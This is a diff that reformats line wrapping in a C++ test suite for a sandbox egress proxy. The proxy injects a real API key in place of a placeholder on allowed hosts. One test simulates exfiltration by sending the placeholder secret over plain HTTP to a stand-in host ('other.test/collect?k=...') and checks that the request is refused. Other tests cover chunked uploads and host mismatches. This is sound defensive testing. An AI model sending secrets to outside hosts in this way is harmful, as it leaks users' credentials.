@@ -172,7 +172,8 @@ class InjectEngine : public ::testing::Test {
     upstream_ns_ = new_netns();
     HUTCH_REQUIRE(sandbox_ns_ && upstream_ns_, "unshare(CLONE_NEWNET) failed");
     for (const char* address : {"198.51.100.10/32", "198.51.100.20/32", "198.51.100.30/32"})
-      ASSERT_TRUE(run_in(upstream_ns_.get(), {"/usr/sbin/ip", "addr", "add", address, "dev", "lo"}));
+      ASSERT_TRUE(
+          run_in(upstream_ns_.get(), {"/usr/sbin/ip", "addr", "add", address, "dev", "lo"}));
     ASSERT_TRUE(run_in(upstream_ns_.get(), {"/usr/sbin/ip", "link", "set", "lo", "up"}));
     ASSERT_TRUE(run_in(sandbox_ns_.get(), {"/usr/sbin/ip", "link", "set", "lo", "up"}));
     auto installed = install_egress_path(sandbox_ns_.get());
@@ -206,8 +207,8 @@ class InjectEngine : public ::testing::Test {
     placeholder_ = placeholder_for(key_, "OPENAI_API_KEY");
 
     EngineOptions options;
-    options.resolver = static_resolver(
-        {{"api.test", {kApi}}, {"other.test", {kOther}}, {"rogue.test", {kRogue}}});
+    options.resolver =
+        static_resolver({{"api.test", {kApi}}, {"other.test", {kOther}}, {"rogue.test", {kRogue}}});
     options.upstream_netns_fd = upstream_ns_.get();
     options.upstream_ca_file = upstream_ca_path_;
     options.secrets = [](std::string_view name) -> std::optional<std::string> {
@@ -293,10 +294,10 @@ class InjectEngine : public ::testing::Test {
   std::vector<ConnectionLog> logs_;
 };
 
-TEST_F(InjectEngine, UpstreamGetsTheSecretOnEveryKeptAliveRequestWhileTheSandboxSendsThePlaceholder) {
-  const auto got =
-      curl({"https://api.test/v1/chat", "https://api.test/v1/models"}, "api.test", kApi,
-           sandbox_ca_path_, {"-H", "Authorization: Bearer " + placeholder_});
+TEST_F(InjectEngine,
+       UpstreamGetsTheSecretOnEveryKeptAliveRequestWhileTheSandboxSendsThePlaceholder) {
+  const auto got = curl({"https://api.test/v1/chat", "https://api.test/v1/models"}, "api.test",
+                        kApi, sandbox_ca_path_, {"-H", "Authorization: Bearer " + placeholder_});
   ASSERT_EQ(got.exit_code, 0) << got.err;
   EXPECT_EQ(got.out, "okok");
   EXPECT_EQ(got.out.find(kSecret), std::string::npos);
@@ -310,7 +311,8 @@ TEST_F(InjectEngine, UpstreamGetsTheSecretOnEveryKeptAliveRequestWhileTheSandbox
     EXPECT_EQ(head.find(placeholder_), std::string::npos) << head;
     EXPECT_EQ(head.find("hutch-placeholder-"), std::string::npos) << head;
   }
-  auto log = log_where([](const ConnectionLog& l) { return l.name == "api.test" && l.port == 443; });
+  auto log =
+      log_where([](const ConnectionLog& l) { return l.name == "api.test" && l.port == 443; });
   ASSERT_TRUE(log);
   EXPECT_TRUE(log->allowed);
   EXPECT_NE(log->reason.find("injected Authorization"), std::string::npos) << log->reason;
@@ -366,8 +368,8 @@ TEST_F(InjectEngine, PlaceholderInAnotherHeaderOfACoveredRequestIsRefused) {
 }
 
 TEST_F(InjectEngine, PlaceholderInPlainHttpToAnotherHostIsRefusedAndLogged) {
-  const auto got = curl({"http://other.test/collect?k=" + placeholder_}, "other.test", kOther,
-                        sandbox_ca_path_);
+  const auto got =
+      curl({"http://other.test/collect?k=" + placeholder_}, "other.test", kOther, sandbox_ca_path_);
   ASSERT_EQ(got.exit_code, 0) << got.err;
   EXPECT_NE(got.out.find("\"rule\":\"inject\""), std::string::npos) << got.out;
   EXPECT_NE(got.out.find("plain HTTP"), std::string::npos) << got.out;
@@ -390,9 +392,8 @@ TEST_F(InjectEngine, UpstreamThatDoesNotVerifyIsResetAndLogged) {
 }
 
 TEST_F(InjectEngine, ChunkedUploadsAndHostMismatchesOnATerminatedConnectionAreRefused) {
-  const auto chunked =
-      curl({"https://api.test/v1/upload"}, "api.test", kApi, sandbox_ca_path_,
-           {"-H", "Transfer-Encoding: chunked", "--data-binary", "abc"});
+  const auto chunked = curl({"https://api.test/v1/upload"}, "api.test", kApi, sandbox_ca_path_,
+                            {"-H", "Transfer-Encoding: chunked", "--data-binary", "abc"});
   ASSERT_EQ(chunked.exit_code, 0) << chunked.err;
   EXPECT_NE(chunked.out.find("Transfer-Encoding"), std::string::npos) << chunked.out;
   const auto fronted = curl({"https://api.test/v1/x"}, "api.test", kApi, sandbox_ca_path_,
